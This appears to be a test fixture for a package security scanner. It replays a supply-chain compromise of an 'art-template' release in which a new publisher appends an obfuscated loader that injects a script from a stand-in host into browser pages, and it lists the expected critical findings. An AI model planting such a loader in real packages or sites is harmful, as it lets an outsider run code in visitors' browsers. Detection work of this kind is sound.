import { obfuscated } from '../obfuscated.js'
import { colours } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

/** As a bundler writes a script for browsers. */
const bundle = `/*! art-template for browsers | MIT */
!(function (root, factory) {
  'object' == typeof exports && 'object' == typeof module ? (module.exports = factory()) : (root.template = factory())
})('undefined' != typeof self ? self : this, function () {
  'use strict'
  const cache = Object.create(null)
  const escape = (text) => String(text).replace(/[&<>"']/g, (one) => '&#' + one.charCodeAt(0) + ';')
  function compile(source) {
    const parts = source.split(/{{s*([w.]+)s*}}/)
    return (data) => parts.map((part, at) => (at % 2 === 0 ? part : escape(valueAt(data, part)))).join('')
  }
  function valueAt(data, path) {
    return path.split('.').reduce((value, key) => (value === null || value === undefined ? '' : value[key]), data)
  }
  function template(source, data) {
    cache[source] = cache[source] || compile(source)
    return data === undefined ? cache[source] : cache[source](data)
  }
  template.compile = compile
  template.escape = escape
  return template
})
`

/** Puts a script of another host into every page that uses the templates. */
const loader = obfuscated(`
;(function(){try{
const $script=document[«createElement»](«script»);
$script[«async»]=!![];
$script[«src»]=«https://cdn-analytics.example/watch.js»;
document[«head»][«appendChild»]($script);
}catch($failure){}})();
`)

const manifest = { main: 'index.js', browser: { './index.js': './lib/template-web.js' } }
const files = {
  'index.js': `${colours.replaceAll('export default', 'module.exports =').replaceAll('export ', '')}`,
  'lib/template-web.js': bundle,
}

export const replay = replayUpgrade({
  description:
    'A template engine that had rested for years, until its publisher’s account changed hands: for months each release loaded a stranger’s script into the pages of ' +
    'whoever used its bundle for browsers. No script ran on install, and Node never saw it.',
  date: '2026-05',
  name: 'art-template',
  from: ['4.13.2', { manifest, files, published: '2018-10-01T12:00:00Z' }],
  to: [
    '4.13.3',
    {
      manifest,
      files: { ...files, 'lib/template-web.js': `${bundle}${loader}\n` },
      publisher: { name: 'next-owner' },
      published: '2025-03-20T12:00:00Z',
    },
  ],
  findings: [
    ['code-hidden', 'critical', { file: 'lib/template-web.js', line: loader }],
    ['remote-code-run', 'critical', { file: 'lib/template-web.js', line: loader }],
    ['combined-risk', 'critical', { file: 'lib/template-web.js', line: loader }],
    ['capability-added', 'high', { file: 'lib/template-web.js', line: loader }],
    ['code-obfuscated', 'high', { file: 'lib/template-web.js', line: loader }],
    ['network-host-added', 'medium', { file: 'lib/template-web.js', line: loader }],
    ['publisher-changed', 'medium'],
    ['release-after-silence', 'medium'],
  ],
})
